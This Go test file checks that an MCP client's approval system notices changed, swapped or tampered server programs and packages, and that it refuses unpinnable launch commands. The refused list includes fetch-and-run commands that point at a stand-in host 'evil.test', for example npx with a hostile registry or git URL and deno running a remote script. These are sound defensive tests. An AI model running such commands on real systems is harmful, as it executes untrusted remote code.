//go:build linux

package mcpclient_test

import (
	"archive/tar"
	"bytes"
	"compress/gzip"
	"context"
	"crypto/sha512"
	"encoding/base64"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tongs-ai/tongs"
	"github.com/tongs-ai/tongs/engine/approval"
	"github.com/tongs-ai/tongs/mcp/mcpclient"
)

// free pre-approves the tools, so that what is asked must be.
func (d *desk) free() {
	d.rules = []tongs.Rule{{Tool: "srv__*", Decision: tongs.PreApproved, Layer: tongs.LayerUser, Origin: "test"}}
}

// grow changes the program of the server to one that works the same.
func (d *desk) grow(tb testing.TB) {
	tb.Helper()
	path := filepath.Join(d.dir, "server")
	data, err := os.ReadFile(path)
	if err == nil {
		err = os.Remove(path) // it may run, and may be the test itself by another name
	}
	if err == nil {
		err = os.WriteFile(path, append(data, '.'), 0o700)
	}
	if err != nil {
		tb.Fatal(err)
	}
}

func changedProgram(q []approval.Question) bool {
	return len(q) == 1 && q[0].Effects[0].MustAsk && strings.Contains(q[0].Effects[0].Why, "changed since you approved it: program ")
}

func TestAProgramThatChangedIsAskedAbout(t *testing.T) {
	for name, between := range map[string]func(d *desk){
		"at the next start of ours": func(d *desk) { d.grow(t); d.restart(t) },
		"when it is started again":  func(d *desk) { d.call("crash", ""); d.questions(); d.grow(t) },
		"while it runs":             func(d *desk) { d.grow(t) },
		"by a link": func(d *desk) {
			path := filepath.Join(d.dir, "server")
			if err := os.Rename(path, path+".old"); err != nil {
				t.Fatal(err)
			}
			if err := os.Symlink("server.old", path); err != nil {
				t.Fatal(err)
			}
			d.restart(t)
		},
	} {
		t.Run(name, func(t *testing.T) {
			d := newDesk(t, nil)
			d.free()
			d.review(t)
			d.ok(t, "echo", "x")
			if q := d.questions(); len(q) > 0 {
				t.Fatalf("the approved program is asked about: %s", q[0].Effects[0].Why)
			}
			between(d)
			d.questions()
			d.say = func(approval.Question) bool { return false }
			d.fails(t, "echo", "x", tongs.CodeDenied)
			if q := d.questions(); !changedProgram(q) {
				t.Errorf("asked %+v", q)
			}
			if st := d.set.States()[0]; st.Status != "failed" && (st.Status != "changed" || !strings.Contains(st.Detail, "its program changed")) {
				t.Errorf("state %s: %s", st.Status, st.Detail)
			}
			// What changed is shown, and approved as it is now.
			d.say = func(approval.Question) bool { return true }
			if v := d.look(t); !v.Changed || !strings.Contains(v.Text, "+program ") && !strings.Contains(v.Text, "+  sha256:") {
				t.Errorf("the review shows %s", v.Text)
			}
			d.review(t)
			d.questions()
			d.ok(t, "echo", "x")
			if q := d.questions(); len(q) > 0 {
				t.Errorf("asked %s", q[0].Effects[0].Why)
			}
		})
	}
}

// A program that changes while a person is asked about it is asked about again.
func TestAProgramThatChangesWhileAPersonThinks(t *testing.T) {
	d := newDesk(t, nil)
	d.free()
	d.review(t)
	d.restart(t)
	d.grow(t)
	count := 0
	d.say = func(approval.Question) bool {
		if count++; count == 1 {
			d.grow(t)
		}
		return true
	}
	d.ok(t, "echo", "x")
	if count != 2 {
		t.Errorf("asked %d times", count)
	}
}

// touching changes the program right after it was started.
type touching struct {
	tongs.Commands
	touch func()
}

func (c touching) Start(ctx context.Context, cmd *tongs.Command) (tongs.Process, error) {
	p, err := c.Commands.Start(ctx, cmd)
	c.touch()
	return p, err
}

// What was swapped around the start is noticed, even if it is swapped back: the program ends before it is told anything.
func TestAProgramThatIsSwappedWhileItStarts(t *testing.T) {
	for name, swap := range map[string]func(path string) error{
		"changed": func(path string) error { return os.WriteFile(path+".x", []byte("x"), 0o700) },
		"and back": func(path string) error {
			if err := os.Rename(path, path+".away"); err != nil {
				return err
			}
			return os.Rename(path+".away", path)
		},
	} {
		t.Run(name, func(t *testing.T) {
			d := newDesk(t, nil)
			path := filepath.Join(d.dir, "server")
			d.around = func(commands tongs.Commands) tongs.Commands {
				return touching{commands, func() {
					err := swap(path)
					if err == nil && name == "changed" {
						err = os.Rename(path+".x", path)
					}
					if err != nil {
						t.Error(err)
					}
				}}
			}
			if _, err := d.set.Look(t.Context(), "srv"); tongs.CodeOf(err) != tongs.CodeStaleFile {
				t.Errorf("%v", err)
			}
		})
	}
}

func TestAServerThatIsNotPinned(t *testing.T) {
	d := newDesk(t, func(o *mcpclient.Options) { o.Servers[0].Unpinned = true })
	d.free()
	d.review(t)
	d.restart(t)
	d.grow(t)
	d.ok(t, "echo", "x")
	if q := d.questions(); len(q) > 0 {
		t.Errorf("asked %s", q[0].Effects[0].Why)
	}
}

func TestWhatCannotBePinnedIsRefused(t *testing.T) {
	for _, argv := range [][]string{
		{"uvx", "mcp-server-git"},
		{"uv", "run", "server"},
		{"pipx", "run", "x"},
		{"docker", "run", "-i", "image"},
		{"npm", "exec", "x"},
		{"bunx", "x"},
		{"python3", "-m", "server"},
		{"python3.12", "-m", "server"},
		{"go", "run", "./cmd/x"},
		{"node"},
		{"node", "missing.js"},
		{"sh", "-x"},
		{"npx", "--registry=http://evil.test", "x"},
		{"npx", "-c", "evil"},
		{"npx"},
		{"npx", "-y", "git+ssh://evil.test/x"},
		{"npx", "../x"},
		{"npx", "-p", "a", "-p", "b", "c"},
		{"java", "-cp", "x.jar", "Main"},
		{"deno", "run", "https://evil.test/x.ts"},
		{"bun", "x", "evil"},
	} {
		d := newDesk(t, func(o *mcpclient.Options) {
			o.Servers[0].Command, o.Servers[0].Args = argv[0], argv[1:]
		})
		_, err := d.set.Look(t.Context(), "srv")
		if tongs.CodeOf(err) != tongs.CodeConfigError || !strings.Contains(err.Error(), "cannot be pinned") || !strings.Contains(err.Error(), "pin: none") {
			t.Errorf("%v: %v", argv, err)
		}
	}
}

// The script of an interpreter and what stands beside it are pinned; what else the arguments name is not.
func TestScriptsArePinned(t *testing.T) {
	d := newDesk(t, func(o *mcpclient.Options) {
		o.Servers[0].Command, o.Servers[0].Args = "sh", []string{"run.sh", "data.db"}
	})
	d.free()
	d.write(t, "run.sh", "exec ./server\n")
	d.write(t, "package-lock.json", "{}")
	d.write(t, "data.db", "1")
	d.review(t)
	d.ok(t, "echo", "x")
	d.questions()
	for _, name := range []string{"run.sh", "package-lock.json"} {
		data, err := os.ReadFile(filepath.Join(d.dir, name))
		if err != nil {
			t.Fatal(err)
		}
		d.write(t, name, string(data)+"\n")
		d.say = func(approval.Question) bool { return false }
		d.fails(t, "echo", "x", tongs.CodeDenied)
		if q := d.questions(); len(q) != 1 || !strings.Contains(q[0].Effects[0].Why, name) {
			t.Errorf("%s: asked %+v", name, q)
		}
		d.write(t, name, string(data)) // as it was approved
		d.ok(t, "echo", "x")
		if q := d.questions(); len(q) > 0 {
			t.Errorf("%s: asked %s", name, q[0].Effects[0].Why)
		}
	}
	d.write(t, "package.json", "{}") // one that was not there
	d.fails(t, "echo", "x", tongs.CodeDenied)
}

// nodeServer is an MCP server with one tool, in JavaScript.
const nodeServer = `#!/usr/bin/env node
const send = m => process.stdout.write(JSON.stringify(m) + '\n');
require('readline').createInterface({input: process.stdin}).on('line', line => {
  const m = JSON.parse(line);
  if (m.id === undefined) return;
  const r = {
    initialize: {protocolVersion: '2025-06-18', capabilities: {tools: {}}, serverInfo: {name: 'n', version: '1'}},
    'tools/list': {tools: [{name: 'echo', description: 'Says VERSION.', inputSchema: {type: 'object'}}]},
    'tools/call': {content: [{type: 'text', text: process.argv.slice(2).join() + ' VERSION'}]},
  }[m.method];
  send(r ? {jsonrpc: '2.0', id: m.id, result: r} : {jsonrpc: '2.0', id: m.id, error: {code: -32601, message: 'unknown'}});
});
`

// registryOf serves one package as the registry of npm does. Its install script would leave a file.
func registryOf(t *testing.T, version *string, left string) string {
	t.Helper()
	tarball := func() []byte {
		var b bytes.Buffer
		z := gzip.NewWriter(&b)
		w := tar.NewWriter(z)
		for _, file := range [][2]string{
			{"package/package.json", fmt.Sprintf(`{"name":"@t/srv","version":%q,"bin":{"srv":"bin/srv.js"},"scripts":{"install":"touch %s"}}`, *version, left)},
			{"package/bin/srv.js", strings.ReplaceAll(nodeServer, "VERSION", *version)},
		} {
			name, text := file[0], file[1]
			if err := w.WriteHeader(&tar.Header{Name: name, Mode: 0o755, Size: int64(len(text))}); err != nil {
				t.Error(err)
			}
			_, _ = w.Write([]byte(text))
		}
		_, _ = w.Close(), z.Close()
		return b.Bytes()
	}
	var s *httptest.Server
	s = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		switch {
		case strings.HasSuffix(r.URL.Path, ".tgz"):
			_, _ = w.Write(tarball())
		case r.URL.Path == "/@t/srv":
			sum := sha512.Sum512(tarball())
			fmt.Fprintf(w, `{"name":"@t/srv","dist-tags":{"latest":%[1]q},"versions":{%[1]q:{"name":"@t/srv","version":%[1]q,"bin":{"srv":"bin/srv.js"},`+
				`"hasInstallScript":true,"dist":{"tarball":"%[2]s/srv-%[1]s.tgz","integrity":"sha512-%[3]s"}}}}`,
				*version, s.URL, base64.StdEncoding.EncodeToString(sum[:]))
		default:
			http.NotFound(w, r)
		}
	}))
	t.Cleanup(s.Close)
	return s.URL
}

func TestPackagesAreInstalledOnce(t *testing.T) {
	home := t.TempDir()
	t.Setenv("HOME", home)
	t.Setenv("XDG_CONFIG_HOME", "")
	version, left := "1.0.0", filepath.Join(home, "ran")
	registry := registryOf(t, &version, left)
	if err := os.WriteFile(filepath.Join(home, ".npmrc"), []byte("registry="+registry+"/\nmaxsockets=1\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	d := newDesk(t, func(o *mcpclient.Options) {
		o.Servers[0].Command, o.Servers[0].Args, o.Servers[0].Env = "npx", []string{"-y", "@t/srv", "a", "b"}, nil
	})
	d.free()
	d.review(t)
	if _, err := os.Stat(left); err == nil {
		t.Error("the install script of the package ran")
	}
	if res := d.ok(t, "echo", ""); !strings.Contains(res.Content, "a,b 1.0.0") {
		t.Errorf("%s", res.Content)
	}
	if q := d.questions(); len(q) > 0 {
		t.Errorf("asked %s", q[0].Effects[0].Why)
	}
	// The registry has another version: it is not fetched.
	version = "2.0.0"
	d.restart(t)
	if res := d.ok(t, "echo", ""); !strings.Contains(res.Content, "1.0.0") {
		t.Errorf("%s", res.Content)
	}
	// Somebody changes a file of the package.
	files, err := filepath.Glob(filepath.Join(d.programs, "mcp", "srv-*", "node_modules", "@t", "srv", "bin", "srv.js"))
	if err != nil || len(files) != 1 {
		t.Fatalf("%v, %v", files, err)
	}
	data, err := os.ReadFile(files[0])
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(files[0], append(data, "// evil\n"...), 0o755); err != nil {
		t.Fatal(err)
	}
	d.restart(t)
	d.say = func(approval.Question) bool { return false }
	d.fails(t, "echo", "", tongs.CodeDenied)
	if q := d.questions(); len(q) != 1 || !strings.Contains(q[0].Effects[0].Why, "changed since you approved it: package ") {
		t.Errorf("asked %+v", q)
	}
	// An update is a change, too.
	if err := d.set.Update(t.Context(), "srv", d.dir); err != nil {
		t.Fatal(err)
	}
	if v := d.look(t); !v.Changed || !strings.Contains(v.Text, "@t/srv 2.0.0") || !strings.Contains(v.Text, "@t/srv 1.0.0") {
		t.Errorf("the review shows %s", v.Text)
	}
	d.review(t)
	if res := d.ok(t, "echo", ""); !strings.Contains(res.Content, "2.0.0") {
		t.Errorf("%s", res.Content)
	}
}
